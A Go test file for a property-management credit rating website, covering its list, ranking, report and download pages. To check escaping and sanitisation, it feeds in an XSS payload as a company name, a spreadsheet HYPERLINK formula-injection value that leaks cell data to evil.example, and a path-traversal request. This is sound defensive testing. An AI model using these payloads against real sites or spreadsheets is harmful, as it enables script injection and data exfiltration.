package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"github.com/google/go-cmp/cmp"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"github.com/propcredit/propcredit/internal/domain"
	"github.com/propcredit/propcredit/internal/publication"
	"github.com/propcredit/propcredit/scoring"
)

// The report tests run against a small city with two quarters:
//
//   - 阳光物业 (reportRed) manages e1, rated 5 everywhere, discloses on time, has every
//     governance item: AAA and the red list;
//   - 弃管物业 (reportVeto) manages e2 and has a one-vote-veto record: C, black list; its one
//     disclosure of 2026Q4 is still pending review, which the engine warns about;
//   - 平平物业 (reportPlain) manages e3, rated 2, no records: a low score but a clean record, B;
//   - a company called `</script><script>alert(1)</script>` (reportHostile) manages e4, in a
//     district and with a credit record just as hostile: C, black list.

const (
	reportHostileName = `</script><script>alert(1)</script>`
	reportRed         = "91440300MA5R000001"
	reportVeto        = "91440300MA5R000002"
	reportPlain       = "91440300MA5R000003"
	reportHostile     = "91440300MA5R000004"
)

var reportPeriods = []domain.Period{
	{ID: "2026Q3", Start: "2026-07-01", End: "2026-09-30", DisclosureDeadline: "2026-07-15"},
	{ID: "2026Q4", Start: "2026-10-01", End: "2026-12-31", DisclosureDeadline: "2026-10-15"},
}

func reportCity() *domain.Dataset {
	ds := &domain.Dataset{
		Districts: []domain.District{{ID: "d1", Name: "东湖区"}, {ID: "d2", Name: "区" + reportHostileName}},
		Companies: []domain.Company{
			{ID: reportRed, Name: "阳光物业"}, {ID: reportVeto, Name: "弃管物业"},
			{ID: reportPlain, Name: "平平物业"}, {ID: reportHostile, Name: reportHostileName},
		},
		Estates: []domain.Estate{
			{ID: "e1", Name: "阳光花园", District: "d1", Company: reportRed, Households: 100, Category: "commodity"},
			{ID: "e2", Name: "弃管小区", District: "d1", Company: reportVeto, Households: 80, Category: "old"},
			{ID: "e3", Name: "平平小区", District: "d2", Company: reportPlain, Households: 200, Category: "commodity"},
			{ID: "e4", Name: "小区" + reportHostileName, District: "d2", Company: reportHostile, Households: 50, Category: "urban_village"},
		},
		Periods: reportPeriods,
		Events: []domain.Event{
			{ID: "EV-veto", Company: reportVeto, Kind: "bad", Points: "10", Veto: true, Date: "2026-06-01", Description: "挪用专项维修资金"},
			{ID: "EV-hostile", Company: reportHostile, Kind: "bad", Points: "30", Date: "2026-06-01", Description: "违规收费" + reportHostileName},
		},
	}
	for _, p := range reportPeriods {
		at, _ := time.ParseInLocation(domain.DateLayout, p.Start, domain.Zone)
		at = at.Add(4*24*time.Hour + 9*time.Hour)
		rate := func(estate string, n int, marks [6]int) {
			for i := range n {
				ds.Ratings = append(ds.Ratings, domain.Rating{Period: p.ID, Estate: estate, Household: fmt.Sprintf("1-1-%03d", i),
					SubmittedAt: at, Scores: domain.ScoresOf(marks)})
			}
		}
		rate("e1", 60, [6]int{5, 5, 5, 5, 5, 5})
		rate("e2", 40, [6]int{3, 3, 3, 3, 3, 2})
		rate("e3", 50, [6]int{2, 2, 2, 2, 2, 1})
		rate("e4", 10, [6]int{4, 4, 4, 4, 4, 4})
		for _, c := range domain.DisclosureCategories {
			ds.Disclosures = append(ds.Disclosures, domain.Disclosure{Period: p.ID, Estate: "e1", Category: c, FiledAt: at, Status: domain.StatusVerified})
		}
		ds.Disclosures = append(ds.Disclosures, domain.Disclosure{Period: p.ID, Estate: "e3", Category: "fees", FiledAt: at.AddDate(0, 0, 20), Status: domain.StatusVerified})
		ds.Governance = append(ds.Governance, domain.Governance{Period: p.ID, Company: reportRed, PartyOrg: true, PartyInstructor: true, JointMechanism: true})
	}
	// Something for the reviewer to look at before publishing 2026Q4.
	ds.Disclosures = append(ds.Disclosures, domain.Disclosure{Period: "2026Q4", Estate: "e2", Category: "utilities",
		FiledAt: time.Date(2026, 10, 9, 9, 0, 0, 0, domain.Zone), Status: domain.StatusPending})
	return ds
}

// newReportEnv is a server on the report city, nothing scored or published yet.
func newReportEnv(t *testing.T) *testEnv {
	t.Helper()
	e := newEnv(t)
	// The pages say 2026Q4, the report city's last quarter, is still open: once the machine's
	// date has left it, the clock goes back into it. (Chromium judges cookies by the machine's
	// clock, so the browser tests on this city need the real date inside 2026Q4.)
	if end := time.Date(2027, 1, 1, 0, 0, 0, 0, domain.Zone); !time.Now().Before(end) {
		e.setClock(time.Date(2026, 12, 4, 10, 0, 0, 0, domain.Zone))
	}
	if _, err := e.db.Import(context.Background(), reportCity(), nil); err != nil {
		t.Fatal(err)
	}
	return e
}

// scoreAndPublish does what a reviewer does: score the period into its draft and publish it.
func (e *testEnv) scoreAndPublish(period string) publication.Record {
	e.t.Helper()
	ctx := context.Background()
	if _, err := e.s.pubs.Score(ctx, period, scoring.Default(), "test", e.clock.Now(), nil); err != nil {
		e.t.Fatal(err)
	}
	pub, err := e.s.pubs.Publish(ctx, period, "", "test", e.clock.Now())
	if err != nil {
		e.t.Fatal(err)
	}
	return pub
}

// newPublishedEnv is the report city with both quarters scored and published.
func newPublishedEnv(t *testing.T) *testEnv {
	e := newReportEnv(t)
	e.scoreAndPublish("2026Q3")
	e.scoreAndPublish("2026Q4")
	return e
}

// reportPaths are every public report page of the report city.
var reportPaths = []string{
	"/lists/2026Q4", "/lists/2026Q3", "/rankings/2026Q4", "/reports/2026Q4", "/reports/2026Q3",
	"/companies/" + reportRed, "/companies/" + reportVeto, "/companies/" + reportPlain, "/companies/" + reportHostile,
	"/companies/" + reportRed + "?period=2026Q3",
	"/estates/e1", "/estates/e2", "/estates/e3", "/estates/e4", "/estates/e1?period=2026Q3",
}

func TestReportPagesBeforeAnythingIsPublished(t *testing.T) {
	e := newReportEnv(t)
	c := e.client()
	for _, p := range []string{"/lists", "/rankings", "/reports"} {
		r := c.get(p)
		wantStatus(t, r, http.StatusOK)
		wantBody(t, r, "尚未发布")
	}
	// A draft is not published: nothing shows.
	ctx := context.Background()
	if _, err := e.s.pubs.Score(ctx, "2026Q4", scoring.Default(), "test", e.clock.Now(), nil); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"/lists/2026Q4", "/rankings/2026Q4", "/reports/2026Q4", "/companies/" + reportRed, "/estates/e1", "/rankings/2026Q4/rankings.csv"} {
		r := c.get(p)
		wantStatus(t, r, http.StatusNotFound)
		wantBody(t, r, "<html", "出错了")
	}
}

func TestReportPages(t *testing.T) {
	e := newPublishedEnv(t)
	c := e.client()

	r := c.get("/lists")
	wantStatus(t, r, http.StatusSeeOther)
	if r.location() != "/lists/2026Q4" {
		t.Errorf("/lists goes to %q, want the latest period", r.location())
	}

	r = c.get("/lists/2026Q4")
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "2026Q4 物业服务企业红黑榜", "阳光物业", "弃管物业", "一票否决", "挪用专项维修资金",
		"低于60分", "评分规则第1版", "第1次发布", "发布时间")
	// Records are told by date and description; their ids are the bureau's, not the public's.
	if strings.Contains(section(r.body, `id="black-list"`), "EV-veto") {
		t.Error("the black list shows a record's internal id")
	}
	red, black := section(r.body, `id="red-list"`), section(r.body, `id="black-list"`)
	if !strings.Contains(red, "阳光物业") || strings.Contains(red, "弃管物业") {
		t.Errorf("red list:\n%s", red)
	}
	if !strings.Contains(black, "弃管物业") || strings.Contains(black, "阳光物业") || strings.Contains(black, "平平物业") {
		t.Errorf("black list:\n%s", black)
	}

	r = c.get("/rankings/2026Q4")
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "共 4 家企业", "阳光物业", "平平物业", `href="/rankings/2026Q4/rankings.csv"`, `href="/rankings/2026Q4/rankings.xlsx"`)

	r = c.get("/companies/" + reportRed)
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "阳光物业", reportRed, "AAA", "红榜", "阳光花园", "2026Q3", "2026Q4", "评分说明", "物业服务企业信用评分说明",
		`id="chart-history"`, `id="chart-radar"`, "全市平均")
	r = c.get("/companies/" + reportVeto)
	wantBody(t, r, "EV-veto", "一票否决", "有效，计入")

	r = c.get("/estates/e1")
	wantStatus(t, r, http.StatusOK)
	// 60 ratings from 100 households.
	wantBody(t, r, "阳光花园", "东湖区", "60.0%", "按时公开", `href="/estates/e1/disclosures"`, `id="chart-dimensions"`,
		`href="/companies/`+reportRed+`?period=2026Q4"`)
	r = c.get("/estates/e3")
	wantBody(t, r, "宽限期内公开", "未公开")

	r = c.get("/reports/2026Q4")
	wantStatus(t, r, http.StatusOK)
	for _, id := range []string{"chart-grades", "chart-districts", "chart-heatmap", "chart-compliance", "chart-trend-score", "chart-trend-lists"} {
		wantBody(t, r, `id="`+id+`"`)
	}
	wantBody(t, r, "东湖区", "物业服务费", "2026Q3")

	// English, by header or by choice.
	en := e.client()
	en.header.Set("Accept-Language", "en-US,en;q=0.9")
	r = en.get("/lists/2026Q4")
	wantBody(t, r, `lang="en"`, "Red and black lists, 2026Q4", "One-vote veto", "Publication 1")
	r = e.client().get("/reports/2026Q4?lang=en")
	wantBody(t, r, "Grade distribution", "Mean rating by district and dimension", "Service fees")
	r = e.client().get("/companies/" + reportRed + "?lang=en")
	wantBody(t, r, "How the score was computed", "written by the scoring engine, in Chinese", "物业服务企业信用评分说明")
}

// Unknown ids and periods give the friendly 404 page, in the visitor's language.
func TestReportPagesNotFound(t *testing.T) {
	e := newPublishedEnv(t)
	for _, tc := range []struct{ path, want string }{
		{"/lists/2025Q1", "评价期“2025Q1”没有已发布的结果"},
		{"/rankings/nope", "没有已发布的结果"},
		{"/rankings/nope/rankings.csv", "没有已发布的结果"},
		{"/reports/%3Cscript%3E", "没有已发布的结果"},
		{"/companies/91440300MA5R999999", "没有企业“91440300MA5R999999”的已发布结果"},
		{"/companies/" + reportRed + "?period=2025Q1", "在评价期 2025Q1 没有已发布的结果"},
		{"/estates/nope", "没有小区“nope”的已发布结果"},
		{"/estates/e1?period=2025Q1", "在评价期 2025Q1 没有已发布的结果"},
		{"/lists/2026Q4?pub=9", "没有第9次发布"},
		{"/assets/nope.js", "页面不存在"},
		{"/assets/..%2Freports.go", "页面不存在"},
	} {
		r := e.client().get(tc.path)
		wantStatus(t, r, http.StatusNotFound)
		wantBody(t, r, "<html", tc.want)
		if strings.Contains(r.body, "<script>") {
			t.Errorf("%s: unescaped input", tc.path)
		}
	}
	for _, tc := range []struct{ path, want string }{
		{"/lists/2026Q4?pub=x", "pub 必须是正整数"},
		{"/rankings/2026Q4?page=0", "页码必须是正整数"},
		{"/rankings/2026Q4?q=" + strings.Repeat("物", 101), "搜索内容不能超过100个字"},
	} {
		r := e.client().get(tc.path)
		wantStatus(t, r, http.StatusBadRequest)
		wantBody(t, r, tc.want)
	}
	en := e.client().english()
	wantBody(t, en.get("/estates/nope"), "No published results for estate “nope”")
}

func TestRankingsFilterSearchAndPages(t *testing.T) {
	e := newPublishedEnv(t)
	c := e.client()
	rows := func(path string) []string {
		t.Helper()
		r := c.get(path)
		wantStatus(t, r, http.StatusOK)
		return regexp.MustCompile(`<code>(91440300MA5R\d+)</code>`).FindAllString(section(r.body, `id="rankings"`), -1)
	}
	for _, tc := range []struct {
		query string
		want  int
	}{
		{"", 4},
		{"?grade=C", 2},
		{"?grade=AAA", 1},
		{"?district=d2", 2},
		{"?district=d2&grade=C", 1},
		{"?q=阳光", 1},
		{"?q=平平小区", 1}, // an estate's name finds its company
		{"?q=91440300ma5r00000", 4},
		{"?q=" + url.QueryEscape(reportHostileName), 1},
		{"?q=无此企业", 0},
		{"?district=nowhere", 0},
		{"?page=99", 4}, // past the end: the last page
	} {
		if got := rows("/rankings/2026Q4" + tc.query); len(got) != tc.want {
			t.Errorf("rankings%s: %d rows, want %d", tc.query, len(got), tc.want)
		}
	}
	r := c.get("/rankings/2026Q4?grade=C")
	wantBody(t, r, `href="/rankings/2026Q4/rankings.csv?grade=C"`, `<option value="C" selected>`)
	// Each period's pages link to the other periods' (item 9 of issue 10), and the language
	// switch keeps the filter.
	wantBody(t, r, `href="/rankings/2026Q3"`, `aria-current="page">2026Q4<`, `href="/rankings/2026Q4?grade=C&amp;lang=en"`)
	wantBody(t, c.get("/lists/2026Q3"), `href="/lists/2026Q4"`)
	wantBody(t, c.get("/reports/2026Q4"), `href="/reports/2026Q3"`)
}

func TestRankingsPaginate(t *testing.T) {
	e := newReportEnv(t)
	ds := &domain.Dataset{}
	for i := range 60 {
		id := fmt.Sprintf("91440300MA5P%06d", i)
		ds.Companies = append(ds.Companies, domain.Company{ID: id, Name: fmt.Sprintf("物业%02d", i)})
		ds.Estates = append(ds.Estates, domain.Estate{ID: fmt.Sprintf("p%02d", i), Name: "小区", District: "d1", Company: id, Households: 10, Category: "unit"})
	}
	if _, err := e.db.Import(context.Background(), ds, nil); err != nil {
		t.Fatal(err)
	}
	e.scoreAndPublish("2026Q4")
	c := e.client()
	r := c.get("/rankings/2026Q4")
	wantBody(t, r, "共 64 家企业", "第 1 页，共 2 页", `href="/rankings/2026Q4?page=2"`)
	if n := strings.Count(section(r.body, `id="rankings"`), "<tr"); n != 51 { // the head and 50 rows
		t.Errorf("first page has %d rows, want 50 and the head", n-1)
	}
	r = c.get("/rankings/2026Q4?page=2")
	wantBody(t, r, "第 2 页，共 2 页", `href="/rankings/2026Q4?page=1"`)
	// The download has every company, whatever the page.
	records := readCSV(t, c.get("/rankings/2026Q4/rankings.csv?page=2"))
	if len(records) != 65 {
		t.Errorf("CSV has %d lines, want 64 and the head", len(records))
	}
}

func readCSV(t *testing.T, r *response) [][]string {
	t.Helper()
	wantStatus(t, r, http.StatusOK)
	body, ok := strings.CutPrefix(r.body, "\uFEFF")
	if !ok {
		t.Error("CSV without a byte-order mark")
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

func TestRankingsDownloads(t *testing.T) {
	e := newPublishedEnv(t)
	// A company whose name a spreadsheet would run as a formula.
	formula := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
	if _, err := e.db.Import(context.Background(), &domain.Dataset{Companies: []domain.Company{{ID: reportPlain, Name: formula}}}, nil); err != nil {
		t.Fatal(err)
	}
	pub := e.scoreAndPublish("2026Q4")
	e.s = e.newServer() // a fresh cache, without waiting for the TTL
	c := e.client()

	r := c.get("/rankings/2026Q4/rankings.csv")
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="rankings-2026Q4.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	records := readCSV(t, r)
	if len(records) != 5 || records[0][0] != "排名" || records[1][1] != reportRed || records[1][3] != "AAA" || records[1][5] != "红榜" {
		t.Fatalf("CSV:\n%q", records)
	}
	names := map[string]string{}
	for _, rec := range records[1:] {
		names[rec[1]] = rec[2]
	}
	if names[reportPlain] != "'"+formula || names[reportHostile] != reportHostileName {
		t.Errorf("CSV names = %q", names)
	}
	// Every row says which publication it comes from: number, time, status and fingerprint.
	head := []string{"评价期", "发布次数", "发布时间", "发布状态", "数据校验码"}
	stamp := []string{"2026Q4", "2", pub.CreatedAt.In(domain.Zone).Format("2006-01-02 15:04:05"), "公示中", pub.InputsHash}
	for i, rec := range records {
		want := stamp
		if i == 0 {
			want = head
		}
		if diff := cmp.Diff(want, rec[len(rec)-len(want):]); diff != "" {
			t.Errorf("CSV line %d: publication columns (-want +got):\n%s", i+1, diff)
		}
	}
	en := readCSV(t, c.get("/rankings/2026Q4/rankings.csv?lang=en&grade=C"))
	if len(en) != 3 || en[0][0] != "Rank" || en[1][5] != "Black list" || en[1][len(en[1])-2] != "In publicity" {
		t.Errorf("English CSV of grade C:\n%q", en)
	}

	r = c.get("/rankings/2026Q4/rankings.xlsx")
	wantStatus(t, r, http.StatusOK)
	f, err := excelize.OpenReader(strings.NewReader(r.body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	xrows, err := f.GetRows("2026Q4")
	if err != nil || len(xrows) != 5 {
		t.Fatalf("XLSX rows %q, %v", xrows, err)
	}
	for i, row := range xrows[1:] {
		if got := row[len(row)-1]; got != pub.InputsHash {
			t.Errorf("XLSX row %d ends with %q, want the publication's fingerprint", i+2, got)
		}
		if row[1] == reportPlain && row[2] != formula {
			t.Errorf("XLSX name %q, want it exactly as imported", row[2])
		}
		cell := fmt.Sprintf("C%d", i+2)
		if fm, _ := f.GetCellFormula("2026Q4", cell); fm != "" {
			t.Errorf("XLSX %s is a formula %q", cell, fm)
		}
	}
}

// section returns the element of page that starts at the tag holding marker, to its end tag
// (good enough for the tables of these pages, which do not nest).
func section(page, marker string) string {
	i := strings.Index(page, marker)
	if i < 0 {
		return ""
	}
	start := strings.LastIndex(page[:i], "<")
	tag := strings.Fields(page[start+1 : i])[0]
	end := strings.Index(page[i:], "</"+tag+">")
	if end < 0 {
		return page[start:]
	}
	return page[start : i+end]
}

// Every public page: no unescaped data, no inline script, nothing loaded or linked from
// another host, and every chart's options JSON that decodes to the data exactly.
func TestReportPagesAreSelfContainedAndEscaped(t *testing.T) {
	e := newPublishedEnv(t)
	sawHostileInChart := false
	for _, lang := range []string{"zh", "en"} {
		for _, p := range append(reportPaths, "/", "/lists", "/login") {
			c := e.client()
			if lang == "en" {
				c.header.Set("Accept-Language", "en")
			}
			r := c.get(p)
			if r.StatusCode == http.StatusSeeOther {
				r = c.get(r.location())
			}
			wantStatus(t, r, http.StatusOK)
			if strings.Contains(r.body, "<script>alert") || strings.Contains(strings.ToLower(r.body), "</script><script>") {
				t.Errorf("%s: hostile name rendered unescaped", p)
			}
			for _, problem := range checkHTML(r.body, false) {
				t.Errorf("%s (%s): %s", p, lang, problem)
			}
			for _, opts := range chartOptions(t, r.body) {
				if strings.Contains(opts, reportHostileName) {
					sawHostileInChart = true
				}
			}
		}
	}
	if !sawHostileInChart {
		t.Error("no chart carried the hostile names: the test tests nothing")
	}
}

// checkHTML returns what is wrong with a page's references: anything loaded or linked from
// another host, and inline scripts. Static pages may not use absolute paths either.
func checkHTML(page string, static bool) []string {
	var problems []string
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			for _, a := range n.Attr {
				switch a.Key {
				case "src", "href", "action", "data", "poster", "srcset", "formaction":
					if u := strings.TrimSpace(a.Val); external(u) || static && strings.HasPrefix(u, "/") {
						problems = append(problems, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
					}
				case "style":
					if strings.Contains(a.Val, "url(") {
						problems = append(problems, fmt.Sprintf("<%s style=%q>", n.Data, a.Val))
					}
				}
			}
			if n.Data == "script" && !hasAttr(n, "src") && n.FirstChild != nil && strings.TrimSpace(n.FirstChild.Data) != "" {
				problems = append(problems, "inline script: "+n.FirstChild.Data)
			}
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(doc)
	return problems
}

func external(u string) bool {
	lower := strings.ToLower(u)
	return strings.HasPrefix(lower, "//") || strings.HasPrefix(lower, `\\`) || strings.HasPrefix(lower, "/\\") ||
		(strings.Contains(lower, ":") && !strings.HasPrefix(lower, "data:") && strings.Index(lower, ":") < strings.IndexAny(lower+"/?#", "/?#"))
}

func hasAttr(n *html.Node, key string) bool {
	for _, a := range n.Attr {
		if a.Key == key {
			return true
		}
	}
	return false
}

// chartOptions returns the decoded JSON text of every chart on the page, checking each parses.
func chartOptions(t *testing.T, page string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		for _, a := range n.Attr {
			if a.Key == "data-echarts" {
				var v map[string]any
				if err := json.Unmarshal([]byte(a.Val), &v); err != nil {
					t.Errorf("chart %s: options do not parse: %v", n.Attr, err)
				}
				// What the browser gets back, as text: the names exactly.
				var text bytes.Buffer
				enc := json.NewEncoder(&text)
				enc.SetEscapeHTML(false)
				_ = enc.Encode(v)
				out = append(out, text.String())
			}
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(doc)
	return out
}

// The raw page never holds data that could close the chart's attribute or a script.
func TestChartOptionsAreEscapedInThePage(t *testing.T) {
	e := newPublishedEnv(t)
	r := e.client().get("/companies/" + reportHostile)
	wantStatus(t, r, http.StatusOK)
	attrs := regexp.MustCompile(`data-echarts="([^"]*)"`).FindAllStringSubmatch(r.body, -1)
	if len(attrs) != 2 {
		t.Fatalf("%d charts on the company page, want 2", len(attrs))
	}
	for _, m := range attrs {
		if strings.ContainsAny(m[1], "<>'") || strings.Contains(strings.ToLower(m[1]), "</script") {
			t.Errorf("chart options hold markup: %s", m[1])
		}
	}
	// The radar names the company: escaped twice over (JSON \u003c, then the attribute).
	if !strings.Contains(r.body, `\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e`) {
		t.Error("the company's name is not in its radar chart, JSON-escaped")
	}
}

func TestRepublishingSupersedes(t *testing.T) {
	e := newPublishedEnv(t)
	c := e.client()
	first := c.get("/lists/2026Q4")
	wantBody(t, first, "第1次发布", "现行")
	etag := first.Header.Get("ETag")

	// New ratings arrive and a reviewer publishes again through the command line: another
	// process, so the server learns of it within the TTL.
	e.clock.Advance(time.Hour)
	ds := &domain.Dataset{}
	for i := range 40 {
		ds.Ratings = append(ds.Ratings, domain.Rating{Period: "2026Q4", Estate: "e3", Household: fmt.Sprintf("2-1-%03d", i),
			SubmittedAt: time.Date(2026, 11, 1, 9, 0, 0, 0, domain.Zone), Scores: domain.ScoresOf([6]int{5, 5, 5, 5, 5, 5})})
	}
	if _, err := e.db.Import(context.Background(), ds, nil); err != nil {
		t.Fatal(err)
	}
	e.scoreAndPublish("2026Q4")
	wantBody(t, c.get("/lists/2026Q4"), "第1次发布") // still within the TTL
	e.clock.Advance(publishedTTL)
	r := c.get("/lists/2026Q4")
	wantBody(t, r, "第2次发布", "现行", "已于", "被更新的发布取代", `href="/lists/2026Q4?pub=1"`)
	if r.Header.Get("ETag") == etag {
		t.Error("the page kept its ETag across publications")
	}

	old := c.get("/lists/2026Q4?pub=1")
	wantStatus(t, old, http.StatusOK)
	wantBody(t, old, "您正在查看第1次发布的结果")
	if strings.Contains(c.get("/lists/2026Q4?pub=2").body, "您正在查看") {
		t.Error("the current publication is shown as superseded")
	}
	// The other pages show the new publication too.
	wantBody(t, c.get("/estates/e3"), "第2次发布", "90") // 50 + 40 ratings
	wantBody(t, c.get("/reports/2026Q4"), "第2次发布")
}

func TestAnonymousPagesAreCachedWithETags(t *testing.T) {
	e := newPublishedEnv(t)
	c := e.client()
	r := c.get("/lists/2026Q4")
	etag := r.Header.Get("ETag")
	if etag == "" || r.Header.Get("Cache-Control") != "no-cache" {
		t.Fatalf("ETag %q, Cache-Control %q", etag, r.Header.Get("Cache-Control"))
	}
	if len(r.Cookies()) != 0 {
		t.Errorf("an anonymous report page sets cookies: %v", r.Cookies())
	}
	again := c.doRaw(http.MethodGet, "/lists/2026Q4", nil, map[string]string{"If-None-Match": etag})
	wantStatus(t, again, http.StatusNotModified)
	if again.body != "" {
		t.Error("304 with a body")
	}
	gz := c.doRaw(http.MethodGet, "/lists/2026Q4", nil, map[string]string{"Accept-Encoding": "gzip"})
	if gz.Header.Get("Content-Encoding") != "gzip" || gz.Header.Get("ETag") != gzipETag(etag) {
		t.Errorf("gzip: Content-Encoding %q, ETag %q", gz.Header.Get("Content-Encoding"), gz.Header.Get("ETag"))
	}
	wantStatus(t, c.doRaw(http.MethodGet, "/lists/2026Q4", nil, map[string]string{"Accept-Encoding": "gzip", "If-None-Match": gzipETag(etag)}), http.StatusNotModified)
	// Each request still has its own CSP nonce and request id.
	if r.Header.Get("X-Request-ID") == again.Header.Get("X-Request-ID") {
		t.Error("cached responses share a request id")
	}

	// A logged-in visitor sees the same page with their name and a log-out form.
	u := e.user("eva", domain.RoleEvaluator, "")
	r = u.get("/lists/2026Q4")
	wantStatus(t, r, http.StatusOK)
	wantBody(t, r, "eva", `action="/logout"`, "阳光物业")
}

func TestAssetsAreServed(t *testing.T) {
	e := newEnv(t)
	c := e.client()
	for name, ctype := range map[string]string{"echarts.min.js": "text/javascript", "charts.js": "text/javascript", "reports.css": "text/css"} {
		r := c.get("/assets/" + name)
		wantStatus(t, r, http.StatusOK)
		if !strings.HasPrefix(r.Header.Get("Content-Type"), ctype) || r.Header.Get("ETag") == "" {
			t.Errorf("%s: Content-Type %q, ETag %q", name, r.Header.Get("Content-Type"), r.Header.Get("ETag"))
		}
		wantStatus(t, c.doRaw(http.MethodGet, "/assets/"+name, nil, map[string]string{"If-None-Match": r.Header.Get("ETag")}), http.StatusNotModified)
	}
}
